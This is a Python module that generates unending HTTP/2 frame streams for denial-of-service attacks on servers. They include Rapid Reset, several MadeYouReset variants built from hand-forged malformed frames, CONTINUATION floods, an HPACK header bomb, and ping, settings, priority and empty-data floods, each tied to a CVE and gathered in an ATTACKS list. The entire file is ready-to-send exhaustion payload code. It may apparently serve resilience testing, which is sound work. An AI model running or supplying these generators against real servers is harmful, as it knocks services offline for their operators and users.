"""What attackers of HTTP/2 servers send: endless frames that cost them little, in pieces ready for a socket."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

__all__ = ["ATTACKS", "PREFACE", "Attack"]

Attack = Callable[[str], Iterator[bytes]]
"""Of a Host: pieces without end."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
PIECE = 50
"""Requests, or frames, in one piece."""


def _head(encoder: Encoder, host: str, method: str = "GET") -> bytes:
    fields = [(":method", method), (":scheme", "http"), (":authority", host), (":path", "/")]
    return bytes(encoder.encode(fields))


def _headers(stream: int, block: bytes, *flags: str) -> HeadersFrame:
    frame = HeadersFrame(stream, block)
    for flag in flags:
        frame.flags.add(flag)
    return frame


def _requests(host: str, provoke: Callable[[int], list[Frame]], *flags: str) -> Iterator[bytes]:
    """Requests, each followed by what ends it before anybody can have answered."""
    encoder, numbers = Encoder(), count(1, 2)
    while True:
        frames: list[Frame] = []
        for _ in range(PIECE):
            stream = next(numbers)
            block = _head(encoder, host, "GET" if flags else "POST")
            frames += [_headers(stream, block, "END_HEADERS", *flags), *provoke(stream)]
        yield b"".join(frame.serialize() for frame in frames)


def rapid_reset(host: str) -> Iterator[bytes]:
    """CVE-2023-44487: each request is given up at once."""
    return _requests(host, lambda stream: [RstStreamFrame(stream, 8)], "END_STREAM")


def made_you_reset_by_window(host: str) -> Iterator[bytes]:
    """CVE-2025-8671: a WINDOW_UPDATE of nothing makes the server reset the stream."""

    def provoke(stream: int) -> list[Frame]:
        # The library that makes frames will not make this one.
        return [_Bare(WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4))]

    return _requests(host, provoke, "END_STREAM")


def made_you_reset_by_overflow(host: str) -> Iterator[bytes]:
    """The same with a window that grows too large."""
    return _requests(host, lambda stream: [WindowUpdateFrame(stream, 2**31 - 1)], "END_STREAM")


def made_you_reset_by_data(host: str) -> Iterator[bytes]:
    """The same with a body after the request's end."""
    return _requests(host, lambda stream: [DataFrame(stream, b"more")], "END_STREAM")


def made_you_reset_by_priority(host: str) -> Iterator[bytes]:
    """The same with a stream that depends on itself."""

    def provoke(stream: int) -> list[Frame]:
        return [_Bare(b"\0\0\5\2\0" + stream.to_bytes(4, "big") * 2 + b"\x10")]

    return _requests(host, provoke, "END_STREAM")


def made_you_reset_by_length(host: str) -> Iterator[bytes]:
    """The same with a request whose body is longer than it said."""
    encoder, numbers = Encoder(), count(1, 2)
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", host), (":path", "/"), ("content-length", "1")]
    while True:
        frames: list[Frame] = []
        for _ in range(PIECE):
            stream = next(numbers)
            frames += [_headers(stream, bytes(encoder.encode(fields)), "END_HEADERS"), DataFrame(stream, b"more")]
        yield b"".join(frame.serialize() for frame in frames)


def continuations(host: str) -> Iterator[bytes]:
    """CVE-2024-27316 and its kin: a header section that never ends."""
    encoder = Encoder()
    yield _headers(1, _head(encoder, host)).serialize()
    field = bytes(encoder.encode([("x-" + "a" * 20, "b" * 200)], huffman=False))
    while True:
        yield b"".join(ContinuationFrame(1, field).serialize() for _ in range(PIECE))


def empty_continuations(host: str) -> Iterator[bytes]:
    """The same, with nothing in them."""
    yield _headers(1, _head(Encoder(), host)).serialize()
    while True:
        yield b"".join(ContinuationFrame(1, b"").serialize() for _ in range(PIECE))


def header_bomb(host: str) -> Iterator[bytes]:
    """CVE-2016-6581: one large field, then a byte for each time that it is meant again."""
    encoder, numbers = Encoder(), count(1, 2)
    large = bytes(encoder.encode([("x-large", "a" * 3_900)], huffman=False))
    again = bytes(encoder.encode([("x-large", "a" * 3_900)], huffman=False))
    while True:
        block = _head(encoder, host) + large + again * 8_000
        stream = next(numbers)
        yield _headers(stream, block, "END_HEADERS", "END_STREAM").serialize()
        large = again


def pings(host: str) -> Iterator[bytes]:
    """CVE-2019-9512."""
    while True:
        yield b"".join(PingFrame(0, b"12345678").serialize() for _ in range(PIECE))


def settings(host: str) -> Iterator[bytes]:
    """CVE-2019-9515."""
    while True:
        yield b"".join(SettingsFrame(0, {3: 100}).serialize() for _ in range(PIECE))


def priorities(host: str) -> Iterator[bytes]:
    """CVE-2019-9513."""
    while True:
        yield b"".join(PriorityFrame(n, depends_on=0, stream_weight=n % 255).serialize() for n in range(1, 99, 2))


def empty_data(host: str) -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield _headers(1, _head(Encoder(), host, "POST"), "END_HEADERS").serialize()
    while True:
        yield b"".join(DataFrame(1, b"").serialize() for _ in range(PIECE))


class _Bare(Frame):
    """Bytes in a frame's place."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def serialize(self) -> bytes:
        """Those bytes."""
        return self._data


ATTACKS: tuple[Attack, ...] = (
    rapid_reset,
    made_you_reset_by_window,
    made_you_reset_by_overflow,
    made_you_reset_by_data,
    made_you_reset_by_priority,
    made_you_reset_by_length,
    continuations,
    empty_continuations,
    header_bomb,
    pings,
    settings,
    priorities,
    empty_data,
)
